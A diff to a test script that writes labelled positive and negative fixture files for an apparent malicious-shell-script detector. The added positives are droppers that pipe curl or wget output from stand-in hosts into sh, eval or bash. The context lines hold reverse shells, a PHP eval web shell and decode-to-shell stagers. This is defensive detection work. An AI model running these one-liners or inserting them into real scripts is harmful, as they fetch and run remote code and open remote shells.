@@ -152,6 +152,10 @@ printf '<?php @eval(gzinflate(base64_decode($_POST["z"]))); ?>\n' >"$S/php_eval"
 printf '#!/bin/sh\nzcat /usr/share/.cache/update.gz | bash -s -- 10.0.0.1\n' >"$S/zcat_pipe"
 printf '#!/bin/sh\nxz -dc /opt/.k/p.xz | /bin/sh\n' >"$S/xz_pipe"
 printf '#!/bin/sh\nsh -c "$(gunzip -c /var/tmp/.s.gz)"\n' >"$S/gunzip_subst"
+# droppers: a script that runs what it downloads
+printf '#!/bin/sh\nset -e\ncurl -fsSL http://203.0.113.5/stage2 | sh -s -- --quiet\nexec "$@"\n' >"$S/drop_pipe"
+printf '#!/bin/bash\n[ -n "$UPDATE" ] && eval "$(wget -qO- https://c2.example.com/u)"\nexec /app/server\n' >"$S/drop_eval"
+printf '#!/bin/bash\nif true; then bash <(curl -s https://c2.example.com/i); fi\n' >"$S/drop_procsub"
 printf '#!/bin/sh\nlua -e "local s=require(\\"socket\\"); local t=s.tcp(); t:connect(\\"10.0.0.1\\",4242); os.execute(\\"/bin/sh -i <&3 >&3 2>&3\\")"\n' >"$S/lua_rev"
 printf '#!/bin/sh\nmkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4242 > /tmp/s; rm /tmp/s\n' >"$S/openssl_rev"
 printf '#!/usr/bin/zsh\nzmodload zsh/net/tcp && ztcp 10.0.0.1 4242 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY\n' >"$S/zsh_rev"
@@ -200,6 +204,7 @@ for s in bash_i:revshell_bash_dev_tcp bash_fd:revshell_bash_dev_tcp bash_loop:re
     ruby_rev:revshell_ruby node_rev:revshell_node miner_start:miner_stratum_url \
     b64_pipe:stager_decode_to_shell b64_eval:stager_decode_to_shell py_b64:stager_eval_decoded \
     zcat_pipe:stager_decode_to_shell xz_pipe:stager_decode_to_shell gunzip_subst:stager_decode_to_shell \
+    drop_pipe:dropper_fetch_to_shell drop_eval:dropper_fetch_to_shell drop_procsub:dropper_fetch_to_shell \
     php_eval:stager_eval_decoded lua_rev:revshell_fd_shell openssl_rev:revshell_openssl \
     zsh_rev:revshell_zsh awk_rev:revshell_awk py_pty_loop:revshell_python miner_cmd:miner_command_line; do
     n=${s%%:*}
@@ -330,6 +335,7 @@ printf '#!/bin/sh\nopenssl s_client -connect "$HOST:443" -servername "$HOST" </d
 printf '#!/usr/bin/gawk -f\nBEGIN { s = "/inet/tcp/0/example.org/80"; print "GET / HTTP/1.0\\r\\n\\r" |& s; while ((s |& getline line) > 0) print line; close(s) }\n' >"$N/gawk_http"
 printf '#!/bin/sh\nexec /usr/bin/backup -o s3.example.com:443 -u backup-user --algo zstd\n' >"$N/backup_opts"
 # ... that decompress into a file, tar or a pager, or compress what a shell prints
+printf '#!/bin/sh\n# install with: curl -fsSL https://get.example.com | sh\ncurl -fsSL https://example.com/app.tgz | tar -xz -C /opt\nwget -qO- https://example.com/health | grep -q ok\nTOKEN=$(curl -s http://metadata/token)\n' >"$N/fetch_data"
 printf '#!/bin/sh\nzcat /usr/share/doc/app/changelog.gz | less\ngunzip -c data.tar.gz | tar -x -C /srv\nxz -dc dump.sql.xz > /tmp/dump.sql\nsh ./report.sh | gzip -c > report.gz\n' >"$N/unpack_data"
 for f in "$N"/*; do
     printf 'usr/local/bin/%s\t0755\t%s\n' "$(basename "$f")" "$f" >>"$T/neg2.tsv"
